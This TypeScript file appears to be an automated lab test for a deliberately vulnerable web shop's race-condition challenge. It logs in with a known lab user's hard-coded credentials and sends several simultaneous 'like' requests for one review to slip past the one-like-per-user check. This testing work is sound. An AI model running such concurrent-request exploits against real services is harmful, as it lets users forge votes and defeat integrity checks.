import type { Attack, Http, Tools } from '#lab'

/** Logs in and returns the token. */
async function tokenOf(tools: Tools, who: string, password: string): Promise<string> {
  const { http, expect, settings } = tools
  const login = await http.post('/rest/user/login', { email: `${who}@${settings.domain}`, password })
  expect(login.status === 200, `the login answered with ${login.status}`)
  return login.json<{ authentication: { token: string } }>().authentication.token
}

interface Review {
  _id: string
}

/** The first review of the first product. */
async function firstReview(http: Http): Promise<Review> {
  const answer = await http.get('/rest/products/1/reviews')
  const [review] = answer.json<{ data: Review[] }>().data
  if (!review) throw new Error('there is no review')
  return review
}

/** Sends this many likes for the same review before the first is answered. */
async function race(tools: Tools, likes: number): Promise<void> {
  const { http, expect } = tools
  const token = await tokenOf(tools, 'mc.safesearch', 'Mr. N00dles')
  const { _id: id } = await firstReview(http)
  const sent = Array.from({ length: likes }, () => http.post('/rest/products/reviews', { id }, { token }))
  const accepted = (await Promise.all(sent)).filter(({ status }) => status === 200).length
  expect(accepted >= 3, `${accepted} of ${likes} likes were accepted`)
}

const challenge = 'timingAttackChallenge'

export const attacks: Attack[] = [
  { challenge, name: 'three likes at once', run: (tools) => race(tools, 3) },
  { challenge, name: 'eight likes at once', run: (tools) => race(tools, 8) },
]
